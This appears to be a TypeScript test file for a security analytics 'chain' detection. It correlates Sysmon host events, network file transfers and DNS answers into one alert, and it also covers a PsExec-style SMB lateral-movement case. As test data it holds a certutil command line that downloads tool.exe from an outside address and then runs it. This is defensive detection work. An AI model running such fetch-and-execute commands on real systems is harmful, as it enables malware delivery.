/**
 * The issue 7 chain test: syslog host events (download-tool command line, file creation, execution) plus the
 * matching network transfer make one `chain` alert with all four pieces; the pieces alone, out of the window or
 * on different hosts do not; hosts named only by a DNS answer are joined.
 * Host events are built as the syslog side reads them: the Sysmon event XML of an RFC 5424 line shaped like the
 * corpus's EVTX exports (../shared/corpus/syslog/windows/*.rfc5424.log), fields taken from its <Data> elements.
 */
import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import type { DetectionContext } from '../analytics/detection.js'
import chain from '../analytics/detections/chain.js'
import downloadTool from '../analytics/detections/download-tool.js'
import type { AlertEvent, DnsEvent, FileEvent, HostEvent, SensorEvent } from '../analytics/events.js'
import { AddressSet, DEFAULT_INTERNAL_CIDRS } from '../analytics/net/address-set.js'

const ctx: DetectionContext = { internal: new AddressSet(DEFAULT_INTERNAL_CIDRS) }
const T0 = 1_763_800_000

/** A Sysmon event as one RFC 5424 line (NXLog framing, as in the corpus), then read back into a HostEvent. */
function sysmon(id: 1 | 11, ts: number, computer: string, data: Record<string, string>, hostIp?: string): HostEvent {
  const iso = new Date(ts * 1000).toISOString()
  const fields = Object.entries(data)
    .map(([k, v]) => `<Data Name="${k}">${v}</Data>`)
    .join('')
  const raw =
    `<14>1 ${iso} ${computer} Microsoft-Windows-Sysmon 2580 ${id} - <Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event">` +
    `<System><Provider Name="Microsoft-Windows-Sysmon" /><EventID>${id}</EventID><TimeCreated SystemTime="${iso.replace('T', ' ').replace('Z', '')}" />` +
    `<Computer>${computer}</Computer></System><EventData>${fields}</EventData></Event>`
  const get = (n: string) => new RegExp(`<Data Name="${n}">([^<]*)</Data>`).exec(raw)?.[1]
  const ev: Record<string, unknown> = {
    kind: 'host',
    ts: Date.parse(/^<\d+>1 (\S+)/.exec(raw)?.[1] ?? '') / 1000,
    source: 'syslog-udp:0.0.0.0:514',
    host: /<Computer>([^<]*)</.exec(raw)?.[1] ?? '',
    event_id: `sysmon:${id}`,
    action: id === 1 ? 'process' : 'file-create',
    raw,
  }
  // '' = the forwarder gave no address for the host.
  if (hostIp !== undefined && hostIp !== '') ev.host_ip = hostIp
  for (const [k, n] of [
    ['image', 'Image'],
    ['command_line', 'CommandLine'],
    ['parent_image', 'ParentImage'],
    ['target_filename', 'TargetFilename'],
  ] as const) {
    const v = get(n)
    if (v !== undefined) ev[k] = v
  }
  return ev as unknown as HostEvent
}

const CMD = 'certutil -urlcache -split -f http://198.51.100.80/tool.exe C:\\Users\\Public\\tool.exe'

function certutil(ts: number, host = 'WS01.corp.example', ip = '10.66.0.2'): HostEvent {
  return sysmon(
    1,
    ts,
    host,
    { Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: CMD, ParentImage: 'C:\\Windows\\System32\\cmd.exe' },
    ip,
  )
}
function created(ts: number, host = 'WS01.corp.example', ip = '10.66.0.2'): HostEvent {
  return sysmon(
    11,
    ts,
    host,
    { Image: 'C:\\Windows\\System32\\certutil.exe', TargetFilename: 'C:\\Users\\Public\\tool.exe' },
    ip,
  )
}
function executed(ts: number, host = 'WS01.corp.example', ip = '10.66.0.2'): HostEvent {
  return sysmon(
    1,
    ts,
    host,
    {
      Image: 'C:\\Users\\Public\\tool.exe',
      CommandLine: 'C:\\Users\\Public\\tool.exe',
      ParentImage: 'C:\\Windows\\System32\\cmd.exe',
    },
    ip,
  )
}
function download(ts: number, client = '10.66.0.2', server = '198.51.100.80'): FileEvent {
  return {
    kind: 'file',
    ts,
    source: 'pcap:eth1',
    uid: `Cdl${ts}`,
    orig_h: client,
    orig_p: 49832,
    resp_h: server,
    resp_p: 80,
    proto: 'tcp',
    file_proto: 'http',
    name: 'tool.exe',
    direction: 'download',
    sender_is_orig: false,
    bytes: 73802,
    missing_bytes: 0,
    type: 'pe',
    type_detail: 'pe32',
    complete: true,
    sha256: 'e'.repeat(64),
    head_hex: '4d5a90000300000004000000ffff0000',
    context: { host: server, uri: '/tool.exe', user_agent: 'CertUtil URL Agent' },
  }
}
function transferAlert(f: FileEvent, score = 70): AlertEvent {
  return {
    kind: 'alert',
    ts: f.ts,
    source: f.source,
    detection: 'executable-download',
    technique: 'T1105',
    tactic: 'command-and-control',
    severity: 'high',
    score,
    reasons: ['PE over HTTP'],
    message: `PE tool.exe downloaded from ${f.resp_h}.`,
    uid: f.uid,
    orig_h: f.orig_h,
    orig_p: f.orig_p,
    resp_h: f.resp_h,
    resp_p: f.resp_p,
    proto: 'tcp',
    file: { name: 'tool.exe', direction: 'download', bytes: f.bytes, type: 'pe', sha256: f.sha256 ?? '' },
    evidence: [{ ts: f.ts, source: 'file', what: 'PE body' }],
    identifier: `executable-download:${f.uid}`,
  }
}

/** Feeds events in order with a tick per event (as the pipeline does), then ends; returns chain alerts. */
function run(events: SensorEvent[], params = chain.params): AlertEvent[] {
  const d = chain.create(params, ctx)
  const out: AlertEvent[] = []
  for (const ev of events) {
    out.push(...(d.onEvent(ev) ?? []))
    out.push(...(d.onTick?.(ev.ts) ?? []))
  }
  const last = events[events.length - 1]?.ts ?? 0
  out.push(...(d.onEnd?.(last) ?? []))
  return out
}

test('download-tool command line, file creation, network transfer and execution make one complete chain', () => {
  const f = download(T0 + 4)
  const alerts = run([certutil(T0), created(T0 + 1), f, transferAlert(f), executed(T0 + 40)])
  assert.equal(alerts.length, 1)
  const a = alerts[0]
  assert.ok(a)
  assert.equal(a.detection, 'chain')
  assert.equal(a.technique, 'T1105')
  assert.equal(a.details?.complete, true)
  assert.equal(a.details?.links_missing, '')
  assert.equal(a.details?.file_name, 'tool.exe')
  assert.deepEqual(
    a.evidence.map((e) => [e.ts, e.link]),
    [
      [T0, 'download_tool'],
      [T0 + 1, 'file_create'],
      [T0 + 4, 'transfer'],
      [T0 + 40, 'execution'],
    ],
  )
  // Every piece says where it came from.
  assert.deepEqual(
    a.evidence.map((e) => e.source),
    ['syslog-udp:0.0.0.0:514', 'syslog-udp:0.0.0.0:514', 'pcap:eth1', 'syslog-udp:0.0.0.0:514'],
  )
  // The transfer piece is the alert (score 70), not the bare FileEvent; the chain scores above it.
  assert.equal(a.evidence[2]?.detection, 'executable-download')
  assert.ok(a.score > 70)
  assert.equal(a.host, 'WS01.corp.example')
  assert.equal(a.resp_h, '198.51.100.80')
  assert.equal(a.orig_h, '10.66.0.2')
})

test('the download-tool alert raised from the host event and the event itself are one piece', () => {
  const ev = certutil(T0)
  const dt: AlertEvent = {
    kind: 'alert',
    ts: T0,
    source: ev.source,
    detection: 'download-tool',
    technique: 'T1105',
    tactic: 'command-and-control',
    severity: 'high',
    score: 75,
    reasons: ['certutil -urlcache'],
    message: 'certutil downloading a file.',
    host: ev.host,
    evidence: [{ ts: T0, source: 'syslog', what: 'process', command_line: CMD }],
    identifier: 'download-tool:ws01:certutil',
  }
  const f = download(T0 + 4)
  const alerts = run([ev, dt, created(T0 + 1), f, executed(T0 + 40)])
  assert.equal(alerts.length, 1)
  const a = alerts[0]
  assert.ok(a)
  assert.equal(a.evidence.filter((e) => e.link === 'download_tool').length, 1)
  assert.equal(a.evidence.find((e) => e.link === 'download_tool')?.detection, 'download-tool')
  assert.ok(a.score > 75)
})

test('pieces alone do not make a chain', () => {
  const f = download(T0 + 4)
  assert.deepEqual(run([f, transferAlert(f)]), [])
  assert.deepEqual(run([certutil(T0)]), [])
  // A file created and run, with no transfer and no download command, is ordinary activity.
  assert.deepEqual(run([created(T0 + 1), executed(T0 + 40)]), [])
})

test('the same pieces spread beyond the window do not make a chain', () => {
  const W = chain.params.time_window
  const f = download(T0 + (W + 10))
  assert.deepEqual(
    run(
      [certutil(T0), created(T0 + 2 * (W + 10)), f, transferAlert(f), executed(T0 + 3 * (W + 10))].sort(
        (a, b) => a.ts - b.ts,
      ),
    ),
    [],
  )
})

test('the same pieces on different hosts do not make a chain', () => {
  const f = download(T0 + 4, '10.66.0.9')
  assert.deepEqual(
    run([
      certutil(T0, 'WS01.corp.example', '10.66.0.2'),
      created(T0 + 1, 'WS02.corp.example', '10.66.0.3'),
      f,
      transferAlert(f),
      executed(T0 + 40, 'WS03.corp.example', '10.66.0.4'),
    ]),
    [],
  )
})

test('a host known only by name is joined to its address through a DNS answer', () => {
  const dns: DnsEvent = {
    kind: 'dns',
    ts: T0 - 100,
    source: 'pcap:eth1',
    uid: 'Cdns1',
    orig_h: '10.66.0.2',
    orig_p: 53000,
    resp_h: '10.66.0.53',
    resp_p: 53,
    proto: 'udp',
    query: 'ws01.corp.example',
    qtype: 1,
    rcode: 0,
    answers: ['10.66.0.2'],
  }
  const f = download(T0 + 4)
  const pieces = [
    certutil(T0, 'WS01', ''),
    created(T0 + 1, 'WS01', ''),
    f,
    transferAlert(f),
    executed(T0 + 40, 'WS01', ''),
  ]
  const joined = run([dns, ...pieces])
  assert.equal(joined.length, 1)
  assert.equal(joined[0]?.details?.complete, true)
  // Without the DNS answer the host pieces still chain among themselves, but the transfer is missing.
  const alone = run(pieces)
  assert.equal(alone.length, 1)
  assert.equal(alone[0]?.details?.transfer, false)
  assert.equal(alone[0]?.details?.links_missing, 'transfer')
  assert.ok((alone[0]?.score ?? 0) < (joined[0]?.score ?? 0))
})

test('a partial chain is emitted once when its window closes, naming the missing links', () => {
  const f = download(T0 + 4)
  const W = chain.params.time_window
  const d = chain.create(chain.params, ctx)
  const out: AlertEvent[] = []
  for (const ev of [certutil(T0), f, transferAlert(f)]) out.push(...(d.onEvent(ev) ?? []), ...(d.onTick?.(ev.ts) ?? []))
  assert.equal(out.length, 0)
  out.push(...(d.onTick?.(T0 + W / 2) ?? []))
  assert.equal(out.length, 0)
  out.push(...(d.onTick?.(T0 + W + chain.params.grace_s + 10) ?? []))
  assert.equal(out.length, 1)
  assert.equal(out[0]?.details?.links_missing, 'file_create,execution')
  assert.match(out[0]?.message ?? '', /missing file_create, execution/)
  out.push(...(d.onTick?.(T0 + 2 * W) ?? []), ...(d.onEnd?.(T0 + 3 * W) ?? []))
  assert.equal(out.length, 1)
})

test('min_links raises the bar', () => {
  const f = download(T0 + 4)
  assert.deepEqual(run([certutil(T0), f, transferAlert(f)], { ...chain.params, min_links: 3 }), [])
  assert.equal(run([certutil(T0), f, transferAlert(f)]).length, 1)
})

test('an internal SMB write, its file creation by System and its execution make a T1570 chain', () => {
  const smb: FileEvent = {
    ...download(T0),
    uid: 'Csmb1',
    orig_h: '10.66.0.2',
    orig_p: 49700,
    resp_h: '10.66.1.9',
    resp_p: 445,
    file_proto: 'smb',
    name: '\\\\fs01\\ADMIN$\\PSEXESVC.exe',
    direction: 'upload',
    sender_is_orig: true,
    context: { share: '\\\\fs01\\ADMIN$', path: 'PSEXESVC.exe' },
  }
  const c = sysmon(
    11,
    T0 + 1,
    'FS01.corp.example',
    { Image: 'System', TargetFilename: 'C:\\Windows\\PSEXESVC.exe' },
    '10.66.1.9',
  )
  const x = sysmon(
    1,
    T0 + 2,
    'FS01.corp.example',
    { Image: 'C:\\Windows\\PSEXESVC.exe', CommandLine: 'C:\\WINDOWS\\PSEXESVC.exe' },
    '10.66.1.9',
  )
  const alerts = run([smb, c, x])
  assert.equal(alerts.length, 1)
  const a = alerts[0]
  assert.ok(a)
  assert.equal(a.technique, 'T1570')
  assert.equal(a.tactic, 'lateral-movement')
  assert.equal(a.details?.links_missing, 'download_tool')
  assert.equal(a.details?.host_ip, '10.66.1.9')
})

test('state stays bounded under a flood of unrelated host events', () => {
  const d = chain.create({ ...chain.params, max_hosts: 100, max_pieces_per_host: 4 }, ctx)
  for (let i = 0; i < 20_000; i++) {
    d.onEvent(executed(T0 + i, `H${i}`, `10.1.${(i >> 8) & 255}.${i & 255}`))
  }
  // Nothing to assert on internals beyond not throwing and no alert: no transfer, no download tool.
  assert.deepEqual(d.onEnd?.(T0 + 20_000) ?? [], [])
})

test('with the download-tool detection in front: its alert and the host event are one download_tool piece', () => {
  const dt = downloadTool.create(downloadTool.params, ctx)
  const ev = certutil(T0)
  const dtAlerts = dt.onEvent(ev) ?? []
  assert.equal(dtAlerts.length, 1, 'download-tool flags certutil -urlcache')
  const f = download(T0 + 4)
  const alerts = run([ev, ...dtAlerts, created(T0 + 1), f, transferAlert(f), executed(T0 + 40)])
  assert.equal(alerts.length, 1)
  const a = alerts[0]
  assert.ok(a)
  assert.equal(a.details?.complete, true)
  const pieces = a.evidence.filter((e) => e.link === 'download_tool')
  assert.equal(pieces.length, 1)
  assert.equal(pieces[0]?.detection, 'download-tool')
  assert.ok(a.score > Math.max(70, dtAlerts[0]?.score ?? 0) || a.score === 100)
})

test('fuzz: random mixes of host events, files and alerts never throw and alert only with two links', () => {
  const hosts = ['WS01', 'WS02.corp.example', '10.66.0.2']
  const ev = fc.oneof(
    fc.record({ k: fc.constant('c' as const), t: fc.integer({ min: 0, max: 7200 }), h: fc.constantFrom(...hosts) }),
    fc.record({ k: fc.constant('x' as const), t: fc.integer({ min: 0, max: 7200 }), h: fc.constantFrom(...hosts) }),
    fc.record({ k: fc.constant('b' as const), t: fc.integer({ min: 0, max: 7200 }), h: fc.constantFrom(...hosts) }),
    fc.record({
      k: fc.constant('f' as const),
      t: fc.integer({ min: 0, max: 7200 }),
      h: fc.constantFrom('10.66.0.2', '10.66.0.3'),
    }),
  )
  fc.assert(
    fc.property(fc.array(ev, { maxLength: 25 }), (list) => {
      const events: SensorEvent[] = list
        .map((e): SensorEvent => {
          const ip = /^\d/.test(e.h) ? e.h : ''
          const name = ip === '' ? e.h : 'WSX'
          if (e.k === 'c') return created(T0 + e.t, name, ip)
          if (e.k === 'x') return executed(T0 + e.t, name, ip)
          if (e.k === 'b') return certutil(T0 + e.t, name, ip)
          return download(T0 + e.t, e.h)
        })
        .sort((a, b) => a.ts - b.ts)
      for (const a of run(events)) {
        assert.equal(a.detection, 'chain')
        assert.ok(Number(a.details?.links) >= 2)
        assert.ok(a.details?.transfer === true || a.details?.download_tool === true)
      }
    }),
    { numRuns: 200 },
  )
})
